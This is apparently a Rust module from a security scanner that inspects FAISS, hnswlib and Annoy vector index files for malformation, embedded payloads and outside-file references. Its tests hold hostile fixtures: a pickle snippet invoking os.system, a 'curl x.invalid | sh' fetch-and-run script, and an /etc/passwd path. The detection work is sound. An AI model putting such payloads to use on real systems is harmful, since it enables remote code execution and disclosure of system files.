//! Indexes of nearest neighbours: vectors, and numbers that their readers follow without a check.

use proofhouse_artifact::neighbours::{Index, annoy, faiss, hnswlib};
use proofhouse_artifact::{ArtifactError, Format};

use super::{kept, payload};
use crate::scanner::{Content, Scanner};
use crate::tensor::{self, Numbers, Tensor};
use crate::weights::Float;

pub(crate) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>) -> u64 {
    let read = match content.format {
        Format::Hnswlib => hnswlib::parse(content.bytes),
        _ => faiss::parse(content.bytes),
    };
    match read {
        Ok(index) => judge(scanner, content, &index),
        Err(error) => {
            let rule = match error {
                ArtifactError::Malformed { .. } => "neighbours/malformed",
                _ => "format/unscannable",
            };
            scanner.report(rule, content.at(error.offset().unwrap_or(0)), error.to_string());
            kept::pickles(scanner, content);
            0
        }
    }
}

/// The same of an index of Annoy, which only its nodes tell; `None` for what is none.
pub(super) fn annoy(scanner: &mut Scanner<'_>, content: &Content<'_>) -> Option<u64> {
    let index = annoy::parse(content.bytes)?;
    Some(judge(scanner, content, &index))
}

fn judge(scanner: &mut Scanner<'_>, content: &Content<'_>, index: &Index) -> u64 {
    for fault in &index.faults {
        scanner.report("neighbours/malformed", content.at(fault.at), fault.what.clone());
    }
    for (at, name) in &index.files {
        let message = format!("its reader opens {name:?}, to read and to write it");
        scanner.report("neighbours/file", content.at(*at), message);
    }
    let size = content.bytes.len() as u64;
    if index.end < size {
        let message = format!("{} bytes follow the index", size - index.end);
        scanner.report("neighbours/malformed", content.at(index.end), message);
    }
    vectors(scanner, content, index);
    kept::pickles(scanner, content);
    index.end
}

/// Looks at the vectors as at one tensor: each by itself is too short to tell much.
fn vectors(scanner: &mut Scanner<'_>, content: &Content<'_>, index: &Index) {
    /// Bytes of vectors that are put together.
    const MOST: usize = 64 << 20;
    let slice = |from: u64, to: u64| {
        let range = usize::try_from(from).ok().zip(usize::try_from(to).ok());
        range.and_then(|(from, to)| content.bytes.get(from..to)).unwrap_or_default()
    };
    let mut together = Vec::new();
    let float = index.vectors.iter().all(|(_, float)| *float).then_some(Float::Single);
    for (range, float) in &index.vectors {
        let bytes = slice(range.start, range.end);
        if let Some(what) = payload::kind(bytes) {
            let message = format!("a vector is {what}");
            scanner.report("format/embedded-payload", content.at(range.start), message);
        }
        // Long stretches of numbers are tensors of their own; what stands between others is put together.
        if bytes.len() >= 1 << 16 {
            let float = float.then_some(Float::Single);
            let tensor = Tensor { name: "", at: range.start, bytes, float };
            tensor::look(scanner, content, "format/embedded-payload", Numbers::Data, &[tensor]);
        } else if together.len() < MOST {
            together.extend_from_slice(bytes);
        }
    }
    if !together.is_empty() {
        let (place, depth) = (content.place.clone(), content.depth + 1);
        let inner = Content { bytes: &together, format: Format::Unknown, place, depth };
        let tensor = Tensor { name: "", at: 0, bytes: &together, float };
        tensor::look(scanner, &inner, "format/embedded-payload", Numbers::Data, &[tensor]);
    }
}

#[cfg(test)]
mod tests {
    use crate::{Limits, Outcome, scan_bytes};

    fn scan(name: &str, bytes: &[u8]) -> (Outcome, Vec<String>) {
        let report = scan_bytes(&name.parse().unwrap(), bytes, &Limits::default());
        (report.outcome, report.findings.into_iter().map(|f| f.rule).collect())
    }

    /// A flat index of FAISS over vectors of four numbers.
    fn flat(count: u64, vectors: &[f32]) -> Vec<u8> {
        let mut bytes = b"IxF2\x04\0\0\0".to_vec();
        for number in [count, 1 << 20, 1 << 20] {
            bytes.extend(number.to_le_bytes());
        }
        bytes.extend([1, 1, 0, 0, 0]);
        bytes.extend((vectors.len() as u64).to_le_bytes());
        bytes.extend(vectors.iter().flat_map(|x| x.to_le_bytes()));
        bytes
    }

    #[test]
    fn every_byte_of_an_index_is_one_of_its_parts() {
        let vectors: Vec<f32> = (0..40).map(|n| (n as f32).sin()).collect();
        let whole = flat(10, &vectors);
        assert_eq!(scan("index.faiss", &whole), (Outcome::Clean, vec![]));
        for bent in [
            [&whole[..], b"cos\nsystem\n(S'true'\ntR."].concat(),
            flat(11, &vectors),
            flat(u64::MAX, &vectors),
            whole[..whole.len() - 1].to_vec(),
        ] {
            assert!(scan("index.faiss", &bent).0 >= Outcome::Suspicious, "{:?}", scan("index.faiss", &bent));
        }
        let mut shell = whole.clone();
        let at = whole.len() - 160;
        shell[at..].fill(0);
        shell[at..at + 30].copy_from_slice(b"#!/bin/sh\ncurl x.invalid | sh\n");
        assert!(scan("index.faiss", &shell).0 >= Outcome::Suspicious);
        // A kind that is not read is no data.
        let mut other = whole;
        other[..4].copy_from_slice(b"IPfs");
        assert_eq!(scan("index.faiss", &other).0, Outcome::Unscannable);
    }

    #[test]
    fn lists_in_another_file_are_told() {
        let long = |numbers: &[u64]| numbers.iter().flat_map(|n| n.to_le_bytes()).collect::<Vec<u8>>();
        // One cell, a quantizer of one vector, no places, and lists on disk.
        let mut bytes = flat(2, &[])[..37].to_vec();
        bytes[..4].copy_from_slice(b"IwFl");
        bytes.extend(long(&[1, 1]));
        bytes.extend(flat(1, &[1.0; 4]));
        bytes.push(0);
        bytes.extend(long(&[0]));
        bytes.extend(b"ilod");
        bytes.extend(long(&[1, 16, 1, 2, 2, 0, 0, 11]));
        bytes.extend(b"/etc/passwd");
        bytes.extend(long(&[32]));
        let (outcome, rules) = scan("index.faiss", &bytes);
        assert!(outcome >= Outcome::Suspicious && rules.contains(&"neighbours/file".to_owned()), "{rules:?}");
    }
}
